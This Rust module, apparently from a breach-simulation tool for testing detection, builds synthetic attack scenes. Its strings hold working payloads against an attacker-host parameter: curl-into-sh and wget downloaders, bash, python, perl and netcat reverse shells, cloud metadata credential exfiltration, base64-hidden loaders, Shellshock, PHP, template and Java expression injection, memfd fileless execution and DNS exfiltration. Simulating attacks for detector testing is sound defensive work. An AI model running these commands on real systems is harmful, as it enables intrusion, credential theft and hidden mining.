//! Breaches in which a request makes the service run a command at once.

use breachline::event::MetadataPath;

use super::super::machine::Manner;
use super::super::scene::{Scene, encoded};
use super::{Attack, Script, Trace, request, sent};

pub(super) const SCRIPTS: &[Script] = &[
    Script { name: "curl into sh", stages: 3, request: Trace::Visible, play: curl_into_sh },
    Script { name: "wget, chmod, run", stages: 3, request: Trace::Visible, play: wget_and_run },
    Script { name: "bash on a socket", stages: 3, request: Trace::Visible, play: bash_on_a_socket },
    Script { name: "python on a socket", stages: 3, request: Trace::Visible, play: python_on_a_socket },
    Script { name: "perl on a socket", stages: 3, request: Trace::Visible, play: perl_on_a_socket },
    Script { name: "netcat with a pipe", stages: 3, request: Trace::Visible, play: netcat },
    Script { name: "credential sent outside", stages: 3, request: Trace::Visible, play: credential_sent },
    Script { name: "base64 into sh", stages: 3, request: Trace::Visible, play: base64_into_sh },
    Script { name: "shellshock", stages: 3, request: Trace::Visible, play: shellshock },
    Script { name: "php code", stages: 3, request: Trace::Visible, play: php_code },
    Script { name: "template injection", stages: 3, request: Trace::Visible, play: template_injection },
    Script { name: "java expression", stages: 3, request: Trace::Visible, play: java_expression },
    Script { name: "service dies of it", stages: 3, request: Trace::Visible, play: dies_of_it },
    Script { name: "run from memory", stages: 3, request: Trace::Visible, play: from_memory },
    Script { name: "data by dns tool", stages: 3, request: Trace::Visible, play: dns_tool },
    Script { name: "exploit in a body", stages: 2, request: Trace::Hidden, play: in_a_body },
    Script { name: "a command and no more", stages: 2, request: Trace::Visible, play: command_only },
    Script { name: "no line: shell and peer", stages: 2, request: Trace::Absent, play: without_a_line },
    Script {
        name: "no line: shell and credential",
        stages: 2,
        request: Trace::Absent,
        play: credential_without_a_line,
    },
];

/// A field that ends up in a command line.
fn injected(command: &str) -> String {
    format!("/tools/ping?host={}", encoded(&format!("127.0.0.1;{command}")))
}

fn curl_into_sh(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let url = format!("http://{}/i.sh", attack.authority());
    request(scene, attack, 1.2, &injected(&format!("curl -fsSL {url}|sh")), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("ping -c 1 127.0.0.1;curl -fsSL {url}|sh"));
    let curl = scene.run(0.1, shell, "/usr/bin/curl", &["curl", "-fsSL", &url]);
    let second = scene.run(0.1, shell, "/usr/bin/dash", &["sh"]);
    scene.contact(0.15, curl, attack.server);
    let id = scene.run(0.9, second, "/usr/bin/id", &["id"]);
    for process in [id, curl, second, shell] {
        scene.exit(1.1, process);
    }
    1.0
}

fn wget_and_run(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("wget -q http://{}/m -O /tmp/.m;chmod +x /tmp/.m;/tmp/.m &", attack.authority());
    request(scene, attack, 0.8, &injected(&command), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.03, worker, &format!("ping -c 1 127.0.0.1;{command}"));
    let url = format!("http://{}/m", attack.authority());
    let wget = scene.run(0.1, shell, "/usr/bin/wget", &["wget", "-q", &url, "-O", "/tmp/.m"]);
    scene.contact(0.12, wget, attack.server);
    scene.exit(0.5, wget);
    let miner = scene.run(0.7, shell, "/tmp/.m", &["/tmp/.m"]);
    scene.exit(0.75, shell);
    let pool = std::net::SocketAddr::from(([94, 23, scene.random.byte(), 9], 3333));
    scene.contact(5.0, miner, pool);
    5.0
}

fn on_a_socket(scene: &mut Scene<'_>, attack: &Attack, command: &str, exe: &str, argv: &[&str]) -> f64 {
    request(scene, attack, 60.0, &injected(command), 504);
    let worker = scene.worker();
    let shell = scene.shell(0.04, worker, &format!("ping -c 1 127.0.0.1;{command}"));
    let opener = scene.run(0.06, shell, exe, argv);
    scene.contact(0.08, opener, attack.server);
    let manner = Manner { on_socket: true, ..Manner::default() };
    let inner = scene.run_as(0.3, opener, "/usr/bin/bash", &["/bin/bash", "-i"], manner);
    scene.briefly(10.0, inner, "/usr/bin/id", &["id"]);
    scene.exit(300.0, inner);
    60.0
}

fn bash_on_a_socket(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let (ip, port) = (attack.server.ip(), attack.server.port());
    let inner = format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1");
    let command = format!("bash -c '{inner}'");
    on_a_socket(scene, attack, &command, "/usr/bin/bash", &["bash", "-c", &inner])
}

fn python_on_a_socket(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let (ip, port) = (attack.server.ip(), attack.server.port());
    let code = format!(
        "import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);pty.spawn(\"/bin/bash\")"
    );
    let command = format!("python3 -c '{code}'");
    on_a_socket(scene, attack, &command, "/usr/bin/python3.11", &["python3", "-c", &code])
}

fn perl_on_a_socket(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let (ip, port) = (attack.server.ip(), attack.server.port());
    let code = format!(
        "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in({port},inet_aton(\"{ip}\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")"
    );
    let command = format!("perl -e '{code}'");
    on_a_socket(scene, attack, &command, "/usr/bin/perl", &["perl", "-e", &code])
}

fn netcat(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let (ip, port) = (attack.server.ip().to_string(), attack.server.port().to_string());
    let command = format!("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f");
    on_a_socket(scene, attack, &command, "/usr/bin/nc.openbsd", &["nc", &ip, &port])
}

fn credential_sent(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let sink = format!("http://{}/c", attack.authority());
    let source = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
    request(scene, attack, 1.0, &injected(&format!("curl -s {source}|curl -s --data-binary @- {sink}")), 200);
    let worker = scene.worker();
    let shell =
        scene.shell(0.05, worker, &format!("ping -c 1 127.0.0.1;curl -s {source}|curl -s --data-binary @- {sink}"));
    let reader = scene.run(0.08, shell, "/usr/bin/curl", &["curl", "-s", source]);
    scene.ask(0.12, reader, MetadataPath::Credential, false);
    let sender = scene.run(0.08, shell, "/usr/bin/curl", &["curl", "-s", "--data-binary", "@-", &sink]);
    scene.contact(0.4, sender, attack.server);
    for process in [reader, sender, shell] {
        scene.exit(0.9, process);
    }
    0.9
}

fn base64_into_sh(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    use std::fmt::Write as _;
    let hidden = format!("curl http://{}/b|sh", attack.authority());
    let blob = base64(hidden.as_bytes());
    request(scene, attack, 0.7, &injected(&format!("echo {blob}|base64 -d|sh")), 200);
    let worker = scene.worker();
    let mut line = String::new();
    // Writing to a string cannot fail.
    let _ = write!(line, "ping -c 1 127.0.0.1;echo {blob}|base64 -d|sh");
    let shell = scene.shell(0.04, worker, &line);
    scene.briefly(0.06, shell, "/usr/bin/base64", &["base64", "-d"]);
    let second = scene.run(0.06, shell, "/usr/bin/dash", &["sh"]);
    let url = format!("http://{}/b", attack.authority());
    let curl = scene.run(0.1, second, "/usr/bin/curl", &["curl", &url]);
    scene.contact(0.2, curl, attack.server);
    0.5
}

/// RFC 4648 base64 with padding.
fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let word = chunk.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let letter = LETTERS[(word >> (18 - 6 * place)) as usize & 63];
            out.push(if place <= chunk.len() { letter as char } else { '=' });
        }
    }
    out
}

fn shellshock(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("/usr/bin/wget -q -O- http://{}/s", attack.authority());
    let agent = format!("() {{ :;}}; /bin/bash -c \"{command}\"");
    sent(scene, attack, 0.0, 0.5, ("GET", "/cgi-bin/status", &agent), 200);
    let worker = scene.worker();
    let shell = scene.run(0.03, worker, "/usr/bin/bash", &["/bin/bash", "-c", &command]);
    let url = format!("http://{}/s", attack.authority());
    let wget = scene.run(0.05, shell, "/usr/bin/wget", &["/usr/bin/wget", "-q", "-O-", &url]);
    scene.contact(0.1, wget, attack.server);
    0.3
}

fn php_code(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("curl -s http://{}/p.php -o cache.php", attack.authority());
    let path = format!(
        "/index.php?s={}",
        encoded(&format!("think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]={command}"))
    );
    request(scene, attack, 0.6, &path, 200);
    let worker = scene.worker();
    let shell = scene.shell(0.03, worker, &command);
    let url = format!("http://{}/p.php", attack.authority());
    let curl = scene.run(0.05, shell, "/usr/bin/curl", &["curl", "-s", &url, "-o", "cache.php"]);
    scene.contact(0.1, curl, attack.server);
    0.4
}

fn template_injection(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("wget http://{}/t -O /tmp/t", attack.authority());
    let payload = format!("{{{{cycler.__init__.__globals__.os.popen('{command}').read()}}}}");
    request(scene, attack, 0.6, &format!("/hello?name={}", encoded(&payload)), 500);
    let worker = scene.worker();
    let shell = scene.shell(0.03, worker, &command);
    let url = format!("http://{}/t", attack.authority());
    let wget = scene.run(0.05, shell, "/usr/bin/wget", &["wget", &url, "-O", "/tmp/t"]);
    scene.contact(0.1, wget, attack.server);
    0.4
}

fn java_expression(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("curl http://{}/o", attack.authority());
    let payload = format!("${{(#a=@java.lang.Runtime@getRuntime().exec(\"{command}\"))}}");
    request(scene, attack, 0.4, &format!("/{}/index.action", encoded(&payload)), 302);
    let worker = scene.worker();
    let url = format!("http://{}/o", attack.authority());
    let curl = scene.run(0.05, worker, "/usr/bin/curl", &["curl", &url]);
    scene.contact(0.1, curl, attack.server);
    scene.shell(3.0, worker, "id;uname -a");
    3.0
}

fn dies_of_it(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("curl http://{}/d|bash", attack.authority());
    request(scene, attack, 0.3, &injected(&command), 502);
    let worker = scene.worker();
    let shell = scene.shell(0.1, worker, &format!("ping -c 1 127.0.0.1;{command}"));
    let url = format!("http://{}/d", attack.authority());
    let curl = scene.run(0.15, shell, "/usr/bin/curl", &["curl", &url]);
    scene.contact(0.2, curl, attack.server);
    let second = scene.run(0.15, shell, "/usr/bin/bash", &["bash"]);
    scene.contact(30.0, second, attack.server);
    30.0
}

fn from_memory(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let url = format!("http://{}/e", attack.authority());
    request(scene, attack, 0.9, &injected(&format!("python3 -c \"$(curl -s {url})\"")), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("ping -c 1 127.0.0.1;python3 -c \"$(curl -s {url})\""));
    let curl = scene.run(0.08, shell, "/usr/bin/curl", &["curl", "-s", &url]);
    scene.contact(0.1, curl, attack.server);
    let python =
        scene.run(0.5, shell, "/usr/bin/python3.11", &["python3", "-c", "import os; fd = os.memfd_create('x')"]);
    let manner = Manner { from_memory: true, ..Manner::default() };
    let implant = scene.run_as(0.8, python, "/proc/self/fd/3", &["[kworker/0:2]"], manner);
    scene.contact(1.5, implant, attack.server);
    1.5
}

fn dns_tool(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let ip = attack.server.ip().to_string();
    let command = format!("dig @{ip} $(whoami).x.example");
    request(scene, attack, 0.5, &injected(&command), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.03, worker, &format!("ping -c 1 127.0.0.1;{command}"));
    scene.briefly(0.05, shell, "/usr/bin/whoami", &["whoami"]);
    let dig = scene.run(0.08, shell, "/usr/bin/dig", &["dig", &format!("@{ip}"), "www-data.x.example"]);
    scene.contact(0.1, dig, std::net::SocketAddr::new(attack.server.ip(), 53));
    0.4
}

fn in_a_body(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    sent(scene, attack, 0.0, 0.6, ("POST", "/api/v2/import", "okhttp/4.12.0"), 200);
    let url = format!("http://{}/x", attack.authority());
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("curl -s {url} -o /tmp/x"));
    let curl = scene.run(0.08, shell, "/usr/bin/curl", &["curl", "-s", &url, "-o", "/tmp/x"]);
    scene.contact(0.1, curl, attack.server);
    0.4
}

fn command_only(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("cat /srv/app/{}.conf", attack.token);
    request(scene, attack, 0.3, &injected(&command), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("ping -c 1 127.0.0.1;{command}"));
    scene.exit(0.2, shell);
    0.2
}

fn without_a_line(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let worker = scene.worker();
    let url = format!("http://{}/n", attack.authority());
    let shell = scene.shell(0.05, worker, &format!("curl {url}|sh"));
    let curl = scene.run(0.08, shell, "/usr/bin/curl", &["curl", &url]);
    scene.contact(0.1, curl, attack.server);
    0.3
}

fn credential_without_a_line(scene: &mut Scene<'_>, _: &Attack) -> f64 {
    let worker = scene.worker();
    let source = "http://169.254.169.254/latest/meta-data/iam/security-credentials/role";
    let shell = scene.shell(0.05, worker, &format!("curl -s {source}"));
    let curl = scene.run(0.08, shell, "/usr/bin/curl", &["curl", "-s", source]);
    scene.ask(0.1, curl, MetadataPath::Credential, false);
    0.3
}
